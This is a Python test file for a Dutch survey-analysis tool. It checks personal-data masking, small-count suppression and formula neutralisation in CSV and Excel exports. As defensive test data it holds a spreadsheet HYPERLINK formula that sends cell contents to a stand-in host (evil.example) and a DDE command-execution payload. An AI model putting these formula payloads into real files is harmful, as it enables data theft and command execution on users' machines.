"""Personal data masking, small-number suppression and safe exports (formula neutralisation)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from lib.present.answers import answers_table
from lib.present.export import neutralise_formulas, table_bytes, write_table
from lib.core.privacy import NameList, mask_series, mask_text
from lib.present.text import small

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'


@pytest.mark.parametrize(
    "text,masked",
    [
        ("mail me op jan.jansen@gorinchem.nl aub", "mail me op [e-mail] aub"),
        ("J.de.Vries@Gorinchem.NL", "[e-mail]"),
        ("bel 06-12345678", "bel [telefoon]"),
        ("bel 0612345678!", "bel [telefoon]!"),
        ("bel 06 12 34 56 78", "bel [telefoon]"),
        ("tel.nr 06 123 456 78", "tel.nr [telefoon]"),
        ("06-1234 5678.", "[telefoon]."),
        ("bel +31 6 12345678", "bel [telefoon]"),
        ("bel +31612345678", "bel [telefoon]"),
        ("+31 (0)6 12345678", "[telefoon]"),
        ("bel 0031 6 1234 5678", "bel [telefoon]"),
        ("vast: 0183-624500", "vast: [telefoon]"),
        ("ik woon op 4205 AB.", "ik woon op [postcode]."),
        ("4207ZA, naast de school", "[postcode], naast de school"),
        ("IBAN NL91ABNA0417164300", "IBAN [IBAN]"),
        ("NL91 ABNA 0417 1643 00 graag", "[IBAN] graag"),
    ],
)
def test_personal_details_are_masked(text, masked):
    assert mask_text(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "in 2024 en 1998 was het beter",  # years
        "van 2019 tot 2023",
        "postcode 4205 is groot",  # PC4 alone is not personal
        "Wij wonen sinds 2019 in 4205 (Haarwijk)",
        "ik ben 67 jaar en woon hier 40 jaar",
        "om 10:30 uur bij de school",
        "de vergunning kost € 1.250,00",
        "bel 112 bij nood",
        "4201 SA",  # SA, SD and SS are never used in Dutch postcodes
        "",
    ],
)
def test_years_pc4_and_amounts_are_not_masked(text):
    assert mask_text(text) == text


@pytest.mark.parametrize("text", ["bel (0183) 624500", "bel 06 - 12345678"])
def test_phone_numbers_with_brackets_or_spaced_hyphen_are_masked(text):
    assert mask_text(text) == "bel [telefoon]"


def test_mask_series_agrees_with_mask_text():
    values = pd.Series(
        ["jan@x.nl", "geen gegevens", "ik woon op 4205 AB", " 06 12345678", "NL91ABNA0417164300", "", "in 2024", "+31 6 12345678"],
        dtype="str",
    )
    assert mask_series(values).tolist() == [mask_text(v) for v in values]
    untouched = pd.Series(["niets", "helemaal niets"], dtype="str")
    assert mask_series(untouched).tolist() == ["niets", "helemaal niets"]


def test_answers_table_masks_the_answer_only():
    answers = pd.DataFrame(
        {
            "source": ["a.csv"],
            "trajectory": ["Buurtenquête"],
            "sheet": [""],
            "row": [2],
            "question": ["Wat kan er beter?"],
            "answer": ["Bel mij op 06-12345678 of mail piet@example.nl"],
            "wijkcode": ["WK051203"],
            "wijknaam": ["Wijk 03 Lingewijk"],
        }
    )
    table = answers_table(answers)
    assert table["Antwoord"].iloc[0] == "Bel mij op [telefoon] of mail [e-mail]"
    assert "Wijk 03 Lingewijk" in table.iloc[0].tolist()


@pytest.mark.parametrize("count,text", [(0, "0"), (1, "<5"), (4, "<5"), (5, "5"), (12345, "12.345"), (float("nan"), "–")])
def test_small_counts_are_suppressed(count, text):
    assert small(count) == text


def test_small_count_threshold_is_configurable():
    assert small(7, threshold=10) == "<10"
    assert small(10, threshold=10) == "10"


# --------------------------------------------------------------------------- formulas


@pytest.mark.parametrize("value", [HYPERLINK, "+31 6 is niet mijn nummer", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_formula_starts_are_neutralised(value):
    out = neutralise_formulas(pd.DataFrame({"answer": [value]}))
    assert out["answer"].iloc[0] == "'" + value


def test_neutralise_leaves_numbers_and_plain_text_alone():
    df = pd.DataFrame({"row": [2, -3], "score": [-1.5, 2.0], "answer": ["Meer groen = beter", " =geen formule"]})
    out = neutralise_formulas(df)
    pd.testing.assert_frame_equal(out, df)


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "source": ["a.csv", "a.csv"],
            "sheet": ["", ""],
            "row": [2, 3],
            "question": ["Wat kan er beter?", "=cmd|' /C calc'!A0"],
            "answer": [HYPERLINK, "Meer bankjes, café's en ideeën"],
            "wijkcode": ["WK051201", ""],
            "wijknaam": ["Wijk 01 Gorinchem binnenstad", ""],
        }
    )


def test_csv_export_neutralises_formulas():
    data = table_bytes(_frame(), "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # BOM so Excel reads UTF-8
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back["answer"].tolist() == ["'" + HYPERLINK, "Meer bankjes, café's en ideeën"]
    assert back["question"].iloc[1] == "'=cmd|' /C calc'!A0"
    assert back["row"].tolist() == ["2", "3"]


def test_xlsx_export_neutralises_formulas():
    wb = openpyxl.load_workbook(io.BytesIO(table_bytes(_frame(), "xlsx")))
    ws = wb["Antwoorden"]
    assert [c.value for c in ws[1]] == list(_frame().columns)
    assert ws["E2"].value == "'" + HYPERLINK
    assert ws["D3"].value == "'=cmd|' /C calc'!A0"
    assert ws["C2"].value == 2  # numbers stay numbers
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".CSV"])
def test_write_table_by_suffix(tmp_path, suffix):
    path = tmp_path / f"antwoorden{suffix}"
    write_table(_frame(), path)
    data = path.read_bytes()
    if suffix.lower() == ".csv":
        assert not data.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
        assert rows[1][:3] == ["a.csv", "", "2"]
        assert "'" + HYPERLINK in rows[1]
    else:
        assert data[:2] == b"PK"
        ws = openpyxl.load_workbook(path).active
        assert ws["E2"].value == "'" + HYPERLINK


def _privacy_lines(name: str) -> list[str]:
    text = (Path(__file__).resolve().parent / "fixtures" / "privacy" / name).read_text(encoding="utf-8")
    return [ln.replace("⟦", "").replace("⟧", "") for ln in text.splitlines() if ln.strip() and not ln.startswith("#")]


def _privacy_answers() -> list[str]:
    return _privacy_lines("answers_with_names.txt") + _privacy_lines("answers_held_out.txt")


@pytest.mark.parametrize("space", [" ", "\u00a0", "\u202f", "\u2009", "\t"],
                         ids=["space", "no-break space", "narrow no-break space", "thin space", "tab"])
def test_the_bulk_masking_finds_what_mask_text_finds_whatever_the_white_space(space):
    """The fast first pass (RE2 in pyarrow) may never skip an answer that ``mask_text`` would change: text pasted
    from Word or a form has non-breaking spaces, which Python's \\s matches and RE2's does not."""
    texts = [t.replace(" ", space) for t in _privacy_answers()]
    texts += [f"mevrouw{space}la Rivière belde", f"Émile{space}van{space}Dijk zegt", f"bel 06{space}12{space}34{space}56{space}78"]
    values = pd.Series(texts, dtype="str")
    expected = [mask_text(t) for t in texts]
    assert sum(e != t for e, t in zip(expected, texts)) > 80  # the masking has work to do in these answers
    assert mask_series(values).tolist() == expected
    own = NameList(_privacy_lines("respondents.txt"))  # the respondents' own names, wherever they occur
    assert mask_series(values, names=own).tolist() == [mask_text(t, own) for t in texts]
